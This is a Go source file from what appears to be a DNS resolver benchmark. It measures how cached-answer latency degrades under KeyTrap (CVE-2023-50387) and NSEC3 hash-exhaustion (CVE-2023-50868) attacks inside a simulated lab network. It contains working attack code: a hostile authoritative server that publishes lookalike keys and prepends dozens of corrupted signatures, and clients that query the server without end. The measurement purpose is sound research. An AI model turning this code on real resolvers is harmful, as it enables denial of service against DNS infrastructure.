package main

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"sync"
	"sync/atomic"
	"time"

	"github.com/miekg/dns"

	"shirube/internal/simnet"
)

func attackFlags(fs *flag.FlagSet, set *settings) { comparisonFlags(fs, set) }

// attack measures what hostile signed zones cost those who do not ask for them:
// the latency of cached answers, in rounds of three: in peace, while names of a
// zone full of keys and signatures are asked for (KeyTrap, CVE-2023-50387), and
// while names are whose denial takes many hashes (CVE-2023-50868).
func attack(ctx context.Context, dir string, set settings) error {
	set.signed = true
	l, err := startLab(ctx, dir, set)
	defer l.stop()
	if err != nil {
		return err
	}
	enemy, err := startEnemy(ctx)
	if err != nil {
		return err
	}
	defer enemy.stop()
	servers, err := startContestants(ctx, l, set)
	defer func() { stopContestants(servers) }()
	if err != nil {
		return err
	}
	fmt.Printf("# Cached answers during attacks, %s\n\n%d cached names asked for by %d clients, %d rounds; %d attackers, each of which waits for its answer and asks every %v at most.\n"+
		"Milliseconds, median (min–max); the ratio is that of the 99th percentiles within a round.\n\n"+
		"| Server | Attack | p50 ms | p99 ms | p99, peace = 1 | attackers' questions per second |\n|---|---|---|---|---|---|\n",
		time.Now().UTC().Format(time.DateOnly), set.names, measuringClients, set.rounds, attackers, attackPace)
	for _, c := range servers {
		if err := prime(ctx, l, c, l.all, true); err != nil {
			return err
		}
		if err := besiege(ctx, l, c, set); err != nil {
			return err
		}
	}
	return nil
}

// measuringClients ask for cached names, attackers for the enemy's.
const (
	measuringClients = 4
	attackers        = 8
	// attackPace is how long an attacker waits between two questions at least:
	// the attack is to cost the server something, not to drown the machine that
	// the attackers and their own server share with it.
	attackPace = 40 * time.Millisecond
)

// sieges are the attacks, the first of which is none.
var sieges = []struct{ name, zone string }{{"none", ""}, {"KeyTrap", trapZone}, {"NSEC3", bombZone}}

// besiege measures c in all rounds, and prints a row for each attack.
func besiege(ctx context.Context, l *lab, c *contestant, set settings) error {
	at := netip.AddrPortFrom(c.addr, 53)
	p50, p99, ratio, rate := make([][]float64, len(sieges)), make([][]float64, len(sieges)), make([][]float64, len(sieges)), make([][]float64, len(sieges))
	for round := range set.rounds {
		peace := 0.0
		for i, s := range sieges {
			during, stop := context.WithCancel(ctx)
			var asked atomic.Int64
			var wg sync.WaitGroup
			for k := range attackers {
				if s.zone != "" {
					wg.Go(func() { torment(during, at, fmt.Sprintf("r%d-%d", round, k), s.zone, &asked) }) // ends with during
				}
			}
			begun := time.Now()
			t, err := closedLoop(ctx, at, l.net.questions, measuringClients)
			stop()
			wg.Wait()
			if err != nil {
				return err
			}
			if t.Failed > 0 {
				return fmt.Errorf("%s during %s: %d questions failed: %v", c.name, s.name, t.Failed, t.why)
			}
			if i == 0 {
				peace = t.P99
			}
			p50[i], p99[i] = append(p50[i], t.P50), append(p99[i], t.P99)
			ratio[i], rate[i] = append(ratio[i], t.P99/peace), append(rate[i], float64(asked.Load())/time.Since(begun).Seconds())
			fmt.Fprintf(os.Stderr, "round %d  %-9s %-8s p50 %.2f  p99 %.2f ms\n", round+1, c.name, s.name, t.P50, t.P99)
		}
	}
	show := func(v []float64, format string) string {
		s := spreadOf(v)
		return fmt.Sprintf(format+" ("+format+"–"+format+")", s.Median, s.Min, s.Max)
	}
	for i, s := range sieges {
		fmt.Printf("| %s | %s | %s | %s | %s | %s |\n", c.version, s.name, show(p50[i], "%.2f"), show(p99[i], "%.2f"), show(ratio[i], "%.2f"), show(rate[i], "%.0f"))
	}
	return nil
}

// torment asks for ever new names of zone until ctx is done.
func torment(ctx context.Context, at netip.AddrPort, prefix, zone string, asked *atomic.Int64) {
	conn, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(at))
	if err != nil {
		return
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	buf := make([]byte, 4096)
	pace := time.NewTicker(attackPace)
	defer pace.Stop()
	for i := 0; ctx.Err() == nil; i++ {
		select {
		case <-pace.C:
		case <-ctx.Done():
			return
		}
		askOnce(conn, newQuery(uint16(i), fmt.Sprintf("%s-%d.a.b.c.d.%s", prefix, i, zone), dns.TypeA), buf)
		asked.Add(1)
	}
}

// The enemy's zones, and where they are served.
const (
	trapZone = "trap.enemy."
	bombZone = "bomb.enemy."
	// trapSignatures and trapKeys are how many of them the trap has.
	trapSignatures, trapKeys = 40, 40
)

var enemyAddr = netip.MustParseAddr("198.18.4.1")

// enemyDelegation delegates the enemy's zones from the root.
func enemyDelegation() string {
	ds := ""
	for _, z := range []string{trapZone, bombZone} {
		ds += record(z, "NS", "ns."+z) + record("ns."+z, "A", enemyAddr.String()) + simnet.NewKey(z, simnet.KeyOptions{}).DS()
	}
	return ds
}

// enemy serves the enemy's zones.
type enemy struct {
	udp, tcp *dns.Server
	wg       sync.WaitGroup
}

// startEnemy starts serving. The caller stops it.
func startEnemy(ctx context.Context) (*enemy, error) {
	key := simnet.NewKey(trapZone, simnet.KeyOptions{})
	trap := simnet.Signing{Keys: []*simnet.Key{key}, Published: key.Lookalikes(trapKeys)}
	bomb := simnet.Signing{Denial: simnet.NSEC3, Iterations: 50, Salt: "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff"}
	var zones []*simnet.Zone
	for origin, s := range map[string]simnet.Signing{trapZone: trap, bombZone: bomb} {
		text := soa(origin) + record(origin, "NS", "ns."+origin) + record("ns."+origin, "A", enemyAddr.String())
		if origin == trapZone {
			text += record("*."+origin, "A", "198.18.0.1")
		}
		z, err := simnet.ParseZone(origin, text)
		if err != nil {
			return nil, err
		}
		zones = append(zones, z.Sign(s))
	}
	authority := simnet.NewServer(zones...)
	handler := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		m := authority.Answer(q)
		m.Answer = multiply(m.Answer)
		if _, over := w.LocalAddr().(*net.UDPAddr); over {
			m.Truncate(1232)
		}
		_ = w.WriteMsg(m) // who does not get it asks again
	})
	var lc net.ListenConfig
	at := netip.AddrPortFrom(enemyAddr, 53).String()
	pc, err := lc.ListenPacket(ctx, "udp", at)
	if err != nil {
		return nil, err
	}
	l, err := lc.Listen(ctx, "tcp", at)
	if err != nil {
		return nil, errors.Join(err, pc.Close())
	}
	e := &enemy{udp: &dns.Server{PacketConn: pc, Handler: handler}, tcp: &dns.Server{Listener: l, Handler: handler}}
	for _, s := range []*dns.Server{e.udp, e.tcp} {
		e.wg.Go(func() { _ = s.ActivateAndServe() }) // ends with stop
	}
	return e, nil
}

// stop ends the serving.
func (e *enemy) stop() {
	_, _ = e.udp.Shutdown(), e.tcp.Shutdown()
	e.wg.Wait()
}

// multiply puts signatures that do not verify before each that does.
func multiply(rrs []dns.RR) []dns.RR {
	var out []dns.RR
	for _, rr := range rrs {
		if sig, ok := rr.(*dns.RRSIG); ok && sig.SignerName == trapZone {
			for i := range trapSignatures {
				bad := *sig
				b := []byte(bad.Signature)
				b[8+i%40] ^= 1 // another letter of base64
				bad.Signature = string(b)
				out = append(out, &bad)
			}
		}
		out = append(out, rr)
	}
	return out
}
